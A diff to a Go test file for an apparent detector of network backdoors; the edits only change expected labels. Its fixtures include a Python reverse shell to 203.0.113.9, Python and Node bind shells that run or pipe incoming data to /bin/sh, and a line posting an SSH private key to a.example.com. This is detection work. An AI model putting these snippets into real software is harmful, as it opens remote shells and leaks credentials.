@@ -298,7 +298,7 @@ def attach(s):
 s = socket.socket()
 s.connect(("203.0.113.9", 4443))
 attach(s)
-`, "connection a connection to 203.0.113.9 -> attach  "},
+`, "connection a connection to 203.0.113.9 -> attach stdin "},
 		"what a connection says is run": {`
 -- a.py --
 import socket, subprocess
@@ -412,7 +412,7 @@ requests.post("https://a.example.com", data=open(os.path.expanduser("~/.ssh/id_e
 func TestListens(t *testing.T) {
 	for text, want := range map[string][]string{
 		"-- a.py --\nimport socket, subprocess\ns = socket.socket()\ns.bind((\"0.0.0.0\", 4444))\ns.listen(1)\nc, a = s.accept()\nsubprocess.run(c.recv(99).decode(), shell=True)\n":        {"connection whoever connects -> run command "},
-		"-- a.js --\nconst net = require(\"net\"), { spawn } = require(\"child_process\");\nnet.createServer((s) => { const sh = spawn(\"/bin/sh\", []); s.pipe(sh.stdin); }).listen(1);\n": {"connection whoever connects -> attach  "},
+		"-- a.js --\nconst net = require(\"net\"), { spawn } = require(\"child_process\");\nnet.createServer((s) => { const sh = spawn(\"/bin/sh\", []); s.pipe(sh.stdin); }).listen(1);\n": {"connection whoever connects -> attach stdin "},
 		"-- a.py --\nimport socket\ns = socket.socket()\ns.bind((\"\", 1))\nc, a = s.accept()\nprint(c.recv(9))\n":                                                                          nil,
 		"-- a.js --\nconst http = require(\"http\"), { exec } = require(\"child_process\");\nhttp.createServer((q, r) => { exec(\"ls\"); r.end(q.url); }).listen(1);\n":                     nil,
 		"-- a.py --\nimport socket, subprocess\ns = socket.socket()\ns.bind((\"127.0.0.1\", 1))\nc, a = s.accept()\nif c.recv(9) == b\"build\":\n    subprocess.run([\"make\"])\n":          nil,
